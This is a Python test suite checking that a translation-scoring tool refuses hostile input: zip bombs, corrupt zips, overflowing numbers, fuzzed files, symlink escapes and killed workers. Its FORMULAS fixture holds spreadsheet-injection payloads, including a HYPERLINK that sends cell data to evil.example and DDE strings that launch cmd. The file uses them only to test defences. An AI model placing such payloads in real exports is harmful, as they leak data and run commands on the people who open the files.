"""Holding under attack (issue 49): uploads bounded while they are read, exports safe to open, no silent merge
or overflow, no internal error on any input or option, and a worker that dies mid-batch - through the real
readers, the command line and the real annotation workers."""
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as hs

from conftest import ROOT, SAMPLE, SHARED, sample_paths

WMT24 = SHARED / "data" / "wmt24"


def run(capsys, *args):
    from blonde_core.cli import main

    code = main(list(map(str, args)))
    out = capsys.readouterr()
    return code, out.out, out.err


SAMPLE_ARGS = ["-r", SAMPLE / "reference.txt", "-s", *sample_paths()[:2], "--docids", SAMPLE / "docids.txt"]


# -- zips ------------------------------------------------------------------------------------------------

sys.path.insert(0, str(ROOT / "bench"))
from bench_hostile import issue63_cases, layout_zip as _layout_zip  # noqa: E402  (one builder for each hostile file)


def test_a_zip_bomb_is_refused_while_it_inflates_with_little_memory(tmp_path):
    """A ~30 KB zip of a member that inflates ~1000 times (16 MB; the issue's 60 KB / 60 MB at a smaller size):
    refused by `score --wmt-dir` with exit 2, the member named, the process's peak memory far below 400 MB."""
    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(_layout_zip(b"x" * 16_000_000))
    assert bomb.stat().st_size < 40_000
    # the command run in a child that reports its own peak: VmHWM, its memory's high-water mark since exec
    # (RUSAGE_CHILDREN also counts earlier tests' workers reaped meanwhile; RUSAGE_SELF keeps the forking
    # parent's peak across exec, ~900 MB in a full run)
    code = ("import runpy, sys\n"
            "sys.argv = ['blonde_core', 'score', '--wmt-dir', %r, '--metrics', 'chrF']\n"
            "status = 0\ntry:\n    runpy.run_module('blonde_core', run_name='__main__')\n"
            "except SystemExit as exc:\n    status = exc.code\n"
            "hwm = [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]\n"
            "print('PEAK', hwm, file=sys.stderr)\n"
            "sys.exit(status)\n" % str(bomb))
    p = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
    peak_mb = int(p.stderr.rsplit("PEAK", 1)[1].split()[0]) / 1024
    assert p.returncode == 2, p.stderr
    assert "system-outputs/en-de/sys.txt" in p.stderr and "times its packed size" in p.stderr
    assert "Traceback" not in p.stderr
    assert peak_mb < 400, peak_mb


def _patch_flag(data: bytes, flag: int) -> bytes:
    """The zip with general-purpose flag bits set on every member (local headers and central directory)."""
    b = bytearray(data)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        i = b.find(sig)
        while i >= 0:
            b[i + off] |= flag
            i = b.find(sig, i + 4)
    return bytes(b)


@pytest.mark.parametrize("kind", ["encrypted", "corrupt", "lying", "twice", "garbage"])
def test_broken_zips_get_a_clear_message(capsys, tmp_path, kind):
    data = _layout_zip(b"Eins.\nZwei.\n")
    if kind == "encrypted":
        data = _patch_flag(data, 0x1)
    elif kind == "corrupt":  # the deflate stream of the last member damaged
        b = bytearray(data)
        at = b.rfind(b"PK\x03\x04")
        for k in range(at + 40, at + 48):
            b[k] ^= 0xFF
        data = bytes(b)
    elif kind == "lying":  # the central directory claims a tiny uncompressed size for every member
        b = bytearray(data)
        i = b.find(b"PK\x01\x02")
        while i >= 0:
            b[i + 24:i + 28] = (1).to_bytes(4, "little")
            i = b.find(b"PK\x01\x02", i + 4)
        data = bytes(b)
    elif kind == "twice":
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate name it is told to write
            data = _layout_zip(b"Eins.\nZwei.\n", [("wmt/system-outputs/en-de/sys.txt", "Drei.\nVier.\n")])
    else:
        data = b"PK\x03\x04" + os.urandom(300)
    z = tmp_path / f"{kind}.zip"
    z.write_bytes(data)
    code, out, err = run(capsys, "score", "--wmt-dir", z, "--metrics", "chrF")
    assert code == 2, (kind, err)
    assert "internal error" not in err and str(z) in err, err
    if kind == "twice":
        assert "twice" in err


def test_the_real_wmt24_folder_reads_from_a_zip(tmp_path):
    """The limits leave real data alone: WMT24 en-cs zipped whole (texts ~3-5 x packed) reads as the folder."""
    from blonde_core.study import Study

    z = tmp_path / "wmt24.zip"
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as out:
        for p in WMT24.rglob("*"):
            if p.is_file() and ("en-cs" in p.name or p.parent.name == "en-cs"):
                out.write(p, f"wmt24/{p.relative_to(WMT24)}")
    a, b = Study.from_wmt(z), Study.from_wmt(WMT24, "en-cs")
    assert a.corpus.systems == b.corpus.systems and a.corpus.references == b.corpus.references


def test_reading_limits_refuse_a_huge_file_before_parsing_it(tmp_path):
    from blonde_core.errors import InputError
    from blonde_core.study import Study, reading_limits

    big = tmp_path / "big.jsonl"
    big.write_text("".join(json.dumps({"system": "s", "doc_id": "d", "text": "x"}) + "\n" for _ in range(20_000)))
    with pytest.raises(InputError, match="20,000 lines or more; this server takes at most 5,000 segments"):
        with reading_limits(100, 5_000):
            Study.from_structured(big)


# -- exports ---------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def test_csv_never_starts_a_text_cell_with_a_formula(capsys, tmp_path):
    import csv

    f = tmp_path / "in.jsonl"
    ref = ["The cat sat on the mat.", "He said that it was fine."]
    rows = [{"system": "ref", "doc_id": "d1", "seg_id": i + 1, "text": r} for i, r in enumerate(ref)]
    rows += [{"system": n, "doc_id": "d1", "seg_id": i + 1, "text": r.replace("cat", "dog")}
             for n in FORMULAS for i, r in enumerate(ref)]
    f.write_text("".join(json.dumps(r) + "\n" for r in rows))
    for extra in ([], ["--metrics", "chrF"], ["--per-doc", "--ci", "50"]):
        code, out, err = run(capsys, "score", "--input", f, "--reference-systems", "ref", "--format", "csv", *extra)
        assert code == 0, err
        table = list(csv.reader(io.StringIO(out)))
        cells = [c for row in table for c in row]
        for c in cells:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(c)  # only numbers may start so
        names = [row[0] for row in table[1:]]
        assert {"'" + n for n in FORMULAS} <= set(names)  # the names kept, neutralised as OWASP recommends


def test_page_downloads_neutralise_formulas_and_keep_numbers():
    import pandas as pd

    from blonde_core.study import frame_csv

    df = pd.DataFrame({"system": FORMULAS + ["plain"], "score": [-1.5, 2.0, -0.25, 3.0, 4.0],
                       "-TER": ["-0.5", "x", "=1", "", "@"]})
    text = frame_csv(df).decode()
    lines = text.splitlines()
    assert lines[0] == "system,score,'-TER"
    assert lines[1].startswith("\"'=HYPERLINK") and ",-1.5,-0.5" in lines[1]  # numbers stay numbers
    assert ",'=1" in lines[3] and lines[5].endswith(",'@")


def test_latex_prints_a_backslash_and_braces_literally():
    from blonde_core.study import latex_text

    assert latex_text(r"\input{x}") == r"\textbackslash{}input\{x\}"


# -- no silent merge, no overflow ------------------------------------------------------------------------

def test_duplicate_and_overflowing_scores_are_refused(capsys, tmp_path):
    names = ["consistent", "names"]  # the first two of sample_paths()
    good = tmp_path / "m.tsv"
    rows = [f"{s}\tlab\t0.5" for s in names]
    good.write_text("system\tdoc\tCOMET\n" + "\n".join(rows) + "\n")
    assert run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", good, "--metrics", "chrF")[0] == 0
    dup = tmp_path / "dup.tsv"
    dup.write_text("system\tdoc\tCOMET\n" + "\n".join(rows + [f"{names[0]}\tlab\t10.35"]) + "\n")
    code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", dup, "--metrics", "chrF")
    assert code == 2 and "appears again (first on line 2)" in err and "line 4" in err, err
    for bad in ("1e308", "inf", "-Infinity", "1e999"):
        f = tmp_path / "big.tsv"
        f.write_text("system\tdoc\tCOMET\n" + f"{names[0]}\tlab\t{bad}\n")
        code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF")
        assert code == 2 and "not a finite number below 1e+12" in err and "line 2" in err, (bad, err)


def test_duplicate_judgments_are_refused(capsys, tmp_path):
    f = tmp_path / "h.tsv"
    f.write_text("system\tdoc\tscore\nconsistent\tlab\t80\nnames\tlab\t70\nconsistent\tlab\t20\n")
    code, _, err = run(capsys, "correlate", *SAMPLE_ARGS, "--human", f)
    assert code == 2 and "appears again (first on line 2)" in err and "seg_id" in err, err
    f.write_text("system\tdoc\tscore\nconsistent\tlab\t1e308\n")
    code, _, err = run(capsys, "correlate", *SAMPLE_ARGS, "--human", f)
    assert code == 2 and "not a finite number" in err


@pytest.mark.parametrize("payload,what", [
    ('{"translations": [{"name": "consistent.txt", "scores": [Infinity, 1]}]}', "Infinity"),
    ('{"translations": [{"name": "consistent.txt", "scores": ["high", 1]}]}', "not a number"),
    ('{"translations": [{"name": "consistent.txt", "scores": [[1, 2], 1]}]}', "not a number"),
    ('{"translations": [{"name": "consistent.txt", "scores": [1' + "0" * 400 + ', 1]}]}', "not a finite number"),
    ('{"consistent.txt": [{"mt": "a", "COMET": NaN}]}', "NaN"),
])
def test_comet_json_with_no_number_is_refused(capsys, tmp_path, payload, what):
    f = tmp_path / "comet.json"
    f.write_text(payload)
    code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF")
    assert code == 2 and what in err and "internal error" not in err, err


def test_mqm_weights_that_would_overflow_are_refused(capsys):
    mqm = SHARED / "data" / "ted-zhen" / "raw" / "mqm_ted_zhen.tsv"
    code, _, err = run(capsys, "human", "--mqm", mqm, "--weights", "Major=1e308")
    assert code == 2 and "weight" in err, err


# -- options ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("argv", [
    ["compare", *SAMPLE_ARGS, "--seed", "-1"], ["compare", *SAMPLE_ARGS, "--n", "0"],
    ["score", *SAMPLE_ARGS, "--otem-n", "0"], ["score", *SAMPLE_ARGS, "--utem-n", "-1"],
    ["score", *SAMPLE_ARGS, "--metrics", "BlonD-dist", "--alpha", "0"], ["score", *SAMPLE_ARGS, "--ci", "0"],
    ["score", *SAMPLE_ARGS, "-wt", "nan", "-w"], ["contrast", *SAMPLE_ARGS, "--pair", "consistent", "names", "--top", "0"],
    ["correlate", *SAMPLE_ARGS, "--human", SAMPLE / "human_judgments.tsv", "--permutations", "0"],
    ["correlate", *SAMPLE_ARGS, "--human", SAMPLE / "human_judgments.tsv", "--bootstrap", "-5"],
    ["report", *SAMPLE_ARGS, "--seed", "x"], ["score", *SAMPLE_ARGS, "-j", "0"],
])
def test_bad_options_are_refused_with_exit_2(capsys, argv):
    code, _, err = run(capsys, *argv)
    assert code == 2 and "internal error" not in err and "(see --help)" in err, err


@pytest.mark.parametrize("flag", ["--otem-n", "--utem-n"])
def test_ngram_orders_beyond_the_statistics_are_refused(capsys, flag):
    """The companion statistics hold n-gram orders 1-4: a larger order is a setting error (the fuzz test found
    `--otem-n 5` raising IndexError, exit 3)."""
    code, _, err = run(capsys, "score", *SAMPLE_ARGS, "--metrics", "Otem,Utem", flag, "5")
    assert code == 2 and "internal error" not in err and "n-gram order must be from 1 to 4, not 5" in err, err


# -- fuzz: hostile bytes through every reader, hostile values through the options ------------------------

FUZZ = settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))


@FUZZ
@given(data=hs.binary(max_size=600), kind=hs.sampled_from(["metric.tsv", "comet.json", "human.tsv", "esa.csv",
                                                         "input.jsonl", "input.tsv", "wmt.zip", "ref.txt"]))
def test_fuzz_readers_never_raise_an_internal_error(tmp_path_factory, data, kind):
    from blonde_core.cli import main

    d = tmp_path_factory.mktemp("fuzz")
    f = d / kind
    if kind == "wmt.zip":  # a real zip around hostile bytes, or the bytes themselves
        f.write_bytes(_layout_zip(data) if data[:1] == b"\x00" else data)
    else:
        f.write_bytes(data)
    argv = {"metric.tsv": ["score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF"],
            "comet.json": ["score", *SAMPLE_ARGS, "--metric-scores", f, "--metrics", "chrF"],
            "human.tsv": ["human", f], "esa.csv": ["human", f],
            "input.jsonl": ["score", "--input", f, "--metrics", "chrF", "--no-cache"],
            "input.tsv": ["score", "--input", f, "--metrics", "chrF", "--no-cache"],
            "wmt.zip": ["score", "--wmt-dir", f, "--metrics", "chrF"],
            "ref.txt": ["score", "-r", f, "-s", f, "--metrics", "chrF", "--no-cache"]}[kind]
    import contextlib

    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main([str(x) for x in argv])
    assert code in (0, 2), (kind, data[:80], err.getvalue())
    assert "Traceback" not in err.getvalue()


OPTION_VALUES = hs.one_of(hs.integers(-10**20, 10**20).map(str), hs.floats(allow_nan=True).map(str),
                          hs.sampled_from(["", "x", "-", "1e308", "nan", "inf", "0", "-0", "NaN"]))


@FUZZ
@given(flag=hs.sampled_from([("compare", "--n"), ("compare", "--seed"), ("score", "--otem-n"), ("score", "--utem-n"),
                             ("score", "--alpha"), ("score", "--seed"), ("score", "-wt"), ("contrast", "--top")]),
       value=OPTION_VALUES)
def test_fuzz_options_never_raise_an_internal_error(flag, value):
    from blonde_core.cli import main

    cmd, opt = flag
    extra = {"score": ["--metrics", "BlonD-dist,Otem,Utem", "--ci", "20"] + (["-w"] if opt == "-wt" else []),
             "compare": ["--unit", "segment"], "contrast": ["--pair", "consistent", "names"]}[cmd]
    if opt in ("--n",) and value.lstrip("-").isdigit() and int(value) > 5000:
        value = "5000"  # a valid huge count only takes time
    import contextlib

    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main([str(x) for x in [cmd, *SAMPLE_ARGS, *extra, opt, value]])
    assert code in (0, 2), (flag, value, err.getvalue())


# -- a worker that dies mid-batch ------------------------------------------------------------------------

def _children(pid: int) -> set:
    """Every child of the process, whichever of its threads started it."""
    out = set()
    for t in os.listdir(f"/proc/{pid}/task"):
        try:
            with open(f"/proc/{pid}/task/{t}/children") as f:
                out |= {int(c) for c in f.read().split()}
        except OSError:
            pass
    return out


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_worker_killed_mid_batch_is_replaced_and_the_batch_retried():
    """The server's pool with one worker: killed while it annotates a batch, the batch goes to a fresh worker and
    its records equal the pipeline's own (before, the Overview broke with 'annotation worker exited')."""
    import signal
    import time

    from blonde_core.annotation.pipeline import doc_to_record, load_pipeline
    from blonde_core.annotation.workers import WorkerPool
    from blonde_core.lang import load_pack

    texts = [f"He said she would come on day {i}, however Barack Obama visited Paris." for i in range(1500)]
    before = _children(os.getpid())
    pool = WorkerPool("en", 1)
    assert pool.submit(texts[:2]).result(timeout=120)  # started and ready
    worker = (_children(os.getpid()) - before).pop()
    fut = pool.submit(texts)
    time.sleep(0.8)  # the batch is being annotated
    assert not fut.done()
    os.kill(worker, signal.SIGKILL)
    got = fut.result(timeout=300)
    want = [doc_to_record(d) for d in load_pipeline(load_pack("en")).pipe(texts)]
    assert got == want
    assert worker not in _children(os.getpid())


# -- a link whose data is gone says why; uploads on disk survive a restart (opt-in) -------------------------

def test_a_gone_link_says_restart_expired_or_unknown(tmp_path):
    import time

    from studio.state import BOOT, StudyStore
    from blonde_core.io.readers import plain_corpus
    from blonde_core.study import Study

    s = Study(plain_corpus([SAMPLE / "reference.txt"], sample_paths()[:1]), "x")
    store = StudyStore(ttl=0.3)
    t = store.put(s, owner="A")
    assert t.endswith("." + BOOT) and store.why(t) is None
    assert store.why("abcdefghijklmnopqrstuv.000000") == "restart"  # made by an earlier run
    assert store.why("never-made-here") == "unknown"
    time.sleep(0.4)
    assert store.get(t) is None and store.why(t) == "expired"
    t2 = store.put(s, owner="A")
    assert store.drop(t2, "A") and store.why(t2) == "expired"  # cleared: said as gone, not unknown


def test_uploads_on_disk_survive_a_restart_and_clear_deletes_them(tmp_path, monkeypatch):
    from studio import state as _state
    from blonde_core.io.readers import plain_corpus
    from blonde_core.study import Study

    s = Study(plain_corpus([SAMPLE / "reference.txt"], sample_paths()[:2], docids=SAMPLE / "docids.txt"), "x")
    store = _state.StudyStore(disk_dir=tmp_path / "uploads")
    t = store.put(s, owner="A")
    assert len(list((tmp_path / "uploads").glob("*.pickle"))) == 1
    monkeypatch.setattr(_state, "BOOT", "ffffff")  # a new server run: new tokens, the old ones on disk
    again = _state.StudyStore(disk_dir=tmp_path / "uploads")
    got, token, shared = again.open(t, "A")
    assert got is not None and token == t and not shared and got.key == s.key
    assert got.corpus.systems == s.corpus.systems and got.engine is not None
    assert again.drop(t, "A") and not list((tmp_path / "uploads").glob("*.pickle"))
    # without the disk store the same restart loses it, and says so
    mem = _state.StudyStore()
    assert mem.open(t, "A")[0] is None and mem.why(t) == "restart"


def test_the_pages_say_a_link_lost_its_data_in_a_restart():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=180)
    at.query_params["s"] = "abcdefghijklmnopqrstuv.000000"
    at.run()
    assert not at.exception
    assert any("the server was restarted since it was loaded" in w.value for w in at.warning)
    at.switch_page("pages/overview.py")
    at.query_params["s"] = "abcdefghijklmnopqrstuv.000000"
    at.run()
    assert any("restarted" in w.value for w in at.warning)
    assert not any("No data yet" in i.value for i in at.info)


# -- the smaller items -----------------------------------------------------------------------------------

def test_long_system_names_are_never_cut_in_text_output(capsys, tmp_path):
    a = tmp_path / "a-very-long-system-name-number-one.txt"
    b = tmp_path / "a-very-long-system-name-number-two.txt"
    for f in (a, b):
        f.write_text((SAMPLE / "consistent.txt").read_text())
    code, out, err = run(capsys, "score", "-r", SAMPLE / "reference.txt", "-s", a, b, "--docids", SAMPLE / "docids.txt",
                         "--ci", "20")
    assert code == 0, err
    assert a.stem in out and b.stem in out


def test_utf32_is_named_as_such(capsys, tmp_path):
    f = tmp_path / "ref.txt"
    f.write_bytes("The cat sat.\n".encode("utf-32"))
    code, _, err = run(capsys, "score", "-r", f, "-s", SAMPLE / "consistent.txt", "--metrics", "chrF")
    assert code == 2 and "UTF-32" in err and "binary" not in err


def test_a_read_only_cache_is_said(tmp_path):
    from blonde_core.study import Engine

    d = tmp_path / "ro"
    d.mkdir()
    (d / "annotations.sqlite3").write_bytes(b"")
    os.chmod(d / "annotations.sqlite3", 0o444)
    os.chmod(d, 0o555)
    try:
        info = Engine(cache_mode="disk", cache_dir=str(d)).info()
        assert info["cache_writable"] is (os.geteuid() == 0)  # root writes anything; anyone else is refused
    finally:
        os.chmod(d, 0o755)
    blocked = tmp_path / "a-file"
    blocked.write_text("x")  # a file where the cache's folder would go: unwritable for root as well
    assert Engine(cache_mode="disk", cache_dir=str(blocked / "cache")).info()["cache_writable"] is False
    assert Engine(cache_mode="disk", cache_dir=str(tmp_path / "new" / "sub")).info()["cache_writable"]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_a_worker_killed_while_the_overview_computes_leaves_its_numbers_equal_to_the_cli(capsys, tmp_path,
                                                                                       monkeypatch):
    """The Overview's code path (Study.result on the server's pool of shared workers, cache off so every sentence
    is annotated now) on 400 segments of WMT22 zh-en, six texts; the one worker is killed while it annotates.
    The leaderboard's BlonDe numbers equal `score`'s (issue 49: the Overview broke in 2 of 4 tries before)."""
    import signal
    import threading
    import time

    from conftest import WMT_SUBSET_SYSTEMS, wmt22_subset
    from blonde_core.metric.settings import ScoreConfig
    from blonde_core.study import Engine, Study

    from blonde_core.annotation import backends

    monkeypatch.setattr(backends, "_SERVER_POOLS", {})  # a pool of its own: one worker, a child of this process
    sub = wmt22_subset(tmp_path, n=400)  # ~2,400 sentences: seconds of annotation after a ~1 s pipeline load
    systems = [sub[s] for s in WMT_SUBSET_SYSTEMS]
    before = _children(os.getpid())
    study = Study.from_files([sub["refA"]], systems, docids=sub["docids"],
                             engine=Engine(cache_mode="off", pool="server", n_process=1))
    killed = []

    def kill_when_busy():
        end = time.monotonic() + 120
        while time.monotonic() < end and not killed:
            new = _children(os.getpid()) - before
            for pid in new:
                try:
                    with open(f"/proc/{pid}/stat") as f:
                        busy = sum(int(x) for x in f.read().rsplit(")", 1)[1].split()[11:13])
                except OSError:
                    continue
                if busy > 200:  # clock ticks: loaded its pipeline (~130) and is annotating
                    os.kill(pid, signal.SIGKILL)
                    killed.append(pid)
                    return
            time.sleep(0.05)

    t = threading.Thread(target=kill_when_busy)
    t.start()
    res = study.result(ScoreConfig())
    t.join()
    assert killed, "the worker was never seen busy"
    code, out, err = run(capsys, "score", "-r", sub["refA"], "-s", *systems, "--docids", sub["docids"],
                         "--format", "json", "--no-cache")
    assert code == 0, err
    want = json.loads(out)["systems"]
    for s in WMT_SUBSET_SYSTEMS:
        assert res.scores(s)["BlonDe"]["F1"] == pytest.approx(want[s]["BlonDe"]["F1"], abs=1e-12)
        assert res.scores(s)["BlonD-d"]["F1"] == pytest.approx(want[s]["BlonD-d"]["F1"], abs=1e-12)


@pytest.mark.pipeline
def test_a_link_inside_a_served_folder_that_leads_out_is_refused(tmp_path):
    """A server reads a WMT folder only under its allowed roots, and every member too, links followed (issue 63):
    a system file that is a symlink to a file outside the root refuses the folder, naming the member; the same
    folder without the link loads; the command line (no roots) reads a user's own links."""
    from conftest import wmt22_layout

    from blonde_core.study import InputError, Study

    served = tmp_path / "served"
    w = wmt22_layout(served / "wmt", n=20)
    root = Path(w["root"])
    assert Study.from_wmt(root, roots=[served]).corpus.systems  # no link: loads
    secret = tmp_path / "outside.txt"
    secret.write_text("\n".join(f"secret {i}" for i in range(20)) + "\n", encoding="utf-8")
    link = next((root / "system-outputs").rglob("*.txt"))
    link.unlink()
    link.symlink_to(secret)
    with pytest.raises(InputError) as exc:
        Study.from_wmt(root, roots=[served])
    assert link.name in str(exc.value) and "outside the folders this server serves" in str(exc.value)
    assert Study.from_wmt(root).corpus.systems  # the command line: the user's own files, links followed


# -- hostile input, second pass (issue 63 points 1-4, 8, 9) ------------------------------------------------------

@pytest.mark.parametrize("point", [1, 2, 3, 4, 8, 9])
def test_every_hostile_case_of_issue_63_is_refused_with_its_message(capsys, tmp_path, point):
    """bench_hostile's cases, their files made here, through the command line's main(): each refused with exit 2
    and its message naming the file (and the line where there is one), never exit 3; the ok cases beside them
    read (exit 0) - point 3's (a reference with problems) warning with their phrase on stderr."""
    from bench_hostile import more_issue63_cases

    wrong = []
    for c in [c for c in issue63_cases(tmp_path) + more_issue63_cases(tmp_path / "more") if c.point == point]:
        code, _, err = run(capsys, *c.argv)
        if code != c.code or c.expect not in err or "internal error" in err or (code == 2 and str(tmp_path) not in err):
            wrong.append((c.name, code, err[-400:]))
    assert not wrong, wrong


def _score_json(capsys, *argv):
    code, out, err = run(capsys, "score", *argv, "--metrics", "chrF", "--format", "json", "--no-cache")
    assert code == 0, err
    return json.loads(out)["systems"]


def test_wmt_xml_segments_are_paired_by_id_not_by_position(capsys, tmp_path):
    """A hyp block whose segments come in another order than the source's (ids 4, 3, 2, 1, each the reference's
    text of its id) scores as the reference itself: paired by id (by position chrF fell below 100)."""
    from bench_hostile import _xml

    f = tmp_path / "t.xml"
    f.write_text(_xml([4, 3, 2, 1]), encoding="utf-8")
    got = _score_json(capsys, "--input", f)
    f.write_text(_xml([1, 2, 3, 4]), encoding="utf-8")
    assert got["S"]["chrF"] == _score_json(capsys, "--input", f)["S"]["chrF"] == pytest.approx(100.0)


def test_rows_with_a_gap_are_named_by_id_and_scored_at_document_level(capsys, tmp_path):
    """A system whose document lacks segment 3 of 1-4: sentence-level matching names the missing id (not only
    the counts); document-level matching scores it as the document it wrote; its text in the corpus is its own
    three segments, never shifted."""
    from bench_hostile import _rows

    from blonde_core.io.formats import read_structured

    f = tmp_path / "gap.jsonl"
    rows = _rows({"A": [1, 2, 4]})
    f.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    c = read_structured(f, ["ref"])
    assert c.systems["A"] == [[r["text"] for r in rows if r["system"] == "A"]]
    assert c.segment_gaps == {"A": {"d1": (["3"], [])}}
    code, _, err = run(capsys, "score", "--input", f, "--reference-systems", "ref", "--metrics", "chrF", "--no-cache")
    assert code == 2 and "has 3 segments in document 'd1'" in err and "by segment id it lacks '3'" in err, err
    assert _score_json(capsys, "--input", f, "--reference-systems", "ref", "--granularity", "document")["A"]


def test_json_that_is_merely_unusual_still_reads(tmp_path):
    """What the JSON reader refuses is hostile only: emoji written as escaped surrogate pairs (json.dumps' default),
    a backslash before u0000 written as text, nesting of 200 levels, an integer of 1,000 digits."""
    from blonde_core.io.jsonsafe import MAX_DEPTH, MAX_DIGITS, loads
    from blonde_core.io.readers import read_jsonl

    f = tmp_path / "emoji.jsonl"
    rows = [{"doc_id": "d", "seg_id": 1, "system": s, "text": "Cat \U0001F408 \\u0000 here"} for s in ("ref", "A")]
    f.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    assert "\\ud83d" in f.read_text()  # escaped as a pair
    assert read_jsonl(f, ["ref"]).systems["A"] == [["Cat \U0001F408 \\u0000 here"]]
    assert loads("[" * MAX_DEPTH + "]" * MAX_DEPTH, "f") is not None
    assert loads("9" * MAX_DIGITS, "f") == int("9" * MAX_DIGITS)


def test_wmt24_esa_as_released_reads_with_its_repeated_rows_counted():
    """The real waves: every overall in 0-100 and no two different judgments with one end_time, so nothing is
    refused; the rows exported twice as they were are counted apart (as many as the files hold, counted here
    from the CSV) and the judgments kept are one per rater, system, segment and pair."""
    import csv as _csv

    from blonde_core.io.esa import read_esa

    files = sorted((WMT24 / "human").glob("esa_*.csv"))
    seen, repeats, keys = set(), 0, set()
    for f in files:
        for r in _csv.reader(f.open(encoding="utf-8")):
            if int(r[2]) >= 1_000_000 or r[3] != "TGT":
                continue
            repeats += tuple(r) in seen
            seen.add(tuple(r))
            keys.add((r[0], r[1], r[2], r[4], r[5]))
    esa = read_esa(files)
    assert repeats > 0 and esa.dropped["rows repeated as they were"] == repeats
    assert len(esa.rows) == len(keys)


def test_mqm_scores_are_read_in_the_direction_of_their_sign(capsys):
    """TED's mqm_seg_scores.tsv holds negated penalties (<= 0): read higher-is-better (the default), refused with
    --lower-is-better, naming the line and value, where before it inverted every correlation in silence."""
    ted = SHARED / "data" / "ted-zhen"
    args = ["-r", ted / "refs" / "ref.txt", "-s", ted / "systems" / "SMU.txt", "--docids", ted / "docids.txt"]
    code, _, err = run(capsys, "correlate", *args, "--human", ted / "mqm_seg_scores.tsv", "--lower-is-better",
                       "--metrics", "chrF")
    assert code == 2 and "mqm_seg_scores.tsv, line 2" in err and "-20 is outside the scale of MQM penalties" in err


@pytest.mark.parametrize("value,problem", [("1" + "0" * 5000, "5,001 digits"), ("[" * 300 + "]" * 300, "levels deep"),
                                           ('"a\\ud800"', "lone surrogate"), ('"a\\u0000"', "NUL")])
def test_hostile_json_in_a_file_of_many_lines_names_its_line(tmp_path, value, problem):
    """COMET's JSON as comet-score writes it, one field a line: the hostile value on line 4 is named there."""
    from blonde_core.errors import InputError
    from blonde_core.io.jsonsafe import loads

    text = '{\n  "a.txt": [\n    {"mt": "x", "COMET": 0.5},\n    {"mt": "y", "x": %s}\n  ]\n}\n' % value
    with pytest.raises(InputError) as exc:
        loads(text, "comet.json")
    assert exc.value.line == 4 and problem in str(exc.value) and exc.value.code == "E012"


# -- hostile input, second pass (issue 63 points 3, 8, 9) ------------------------------------------------------

from bench_hostile import GIBBERISH, _reference_with, ukrainian_texts  # noqa: E402


def test_reference_problems_travel_with_the_numbers_in_json(capsys, tmp_path):
    """A second reference with an empty document and one in German: both named in `warnings` of score's JSON (and
    on stderr), the scores computed as before; the first reference, whole, gives no reference warning."""
    bad = tmp_path / "refB.txt"
    bad.write_text(_reference_with({"trip": [""], "market": [
        "Die Forscher haben im Labor am Montag einen neuen Versuch mit drei Proben begonnen.",
        "Sie messen die Temperatur jeden Morgen sehr genau und schreiben alles auf."]}), encoding="utf-8")
    args = ["-s", *sample_paths()[:2], "--docids", SAMPLE / "docids.txt", "--metrics", "chrF", "--format", "json",
            "--lang", "en"]
    code, out, err = run(capsys, "score", "-r", SAMPLE / "reference.txt", bad, *args)
    assert code == 0, err
    said = [w for w in json.loads(out)["warnings"] if w.startswith("reference")]
    assert len(said) == 1 and "1 of 3 document(s) empty: 'trip'" in said[0], said
    assert "1 of 3 document(s) not in English: 'market' (German)" in said[0] and said[0] in err
    code, out, err = run(capsys, "score", "-r", SAMPLE / "reference.txt", *args)
    assert code == 0 and not any(w.startswith("reference") for w in json.loads(out).get("warnings", []))


def test_latin_gibberish_is_off_target_under_a_ukrainian_target_for_references_and_systems(tmp_path):
    """WMT24 en-uk's Ukrainian: a reference document of Latin gibberish (no language py3langid knows) is named,
    and a system whose segments are that gibberish counts them off-target under their script; the real texts
    give no warning."""
    from blonde_core.study import Engine, Study

    uk, ids = ukrainian_texts()
    (tmp_path / "ids").write_text("\n".join(ids) + "\n", encoding="utf-8")
    real = tmp_path / "real.txt"
    real.write_text("\n".join(uk) + "\n", encoding="utf-8")
    gib = list(uk)
    gib[:5] = [GIBBERISH[k % 3] for k in range(5)]  # document d1
    (tmp_path / "gib.txt").write_text("\n".join(gib) + "\n", encoding="utf-8")
    eng = Engine(cache_mode="off")
    s = Study.from_files([tmp_path / "gib.txt"], [real], docids=tmp_path / "ids", engine=eng)
    assert s.guess_language()["language"] == "uk"
    assert s.reference_languages()["gib"]["documents"] == [[0, "foreign script", "Latin"]]
    assert "'d1' (Latin)" in s.reference_warnings()["gib"] and s.reference_gist() == \
        "reference 'gib': 1 document in another script, 5 of 16 segments checked in another language or script"
    t = Study.from_files([real], [tmp_path / "gib.txt"], docids=tmp_path / "ids", engine=eng)
    assert not t.reference_warnings() and t.system_languages()["gib"]["other"] == {"Latin script": 5}
    assert "5 in no language recognised, in another script (Latin 5)" in t.off_target_warnings()["gib"]
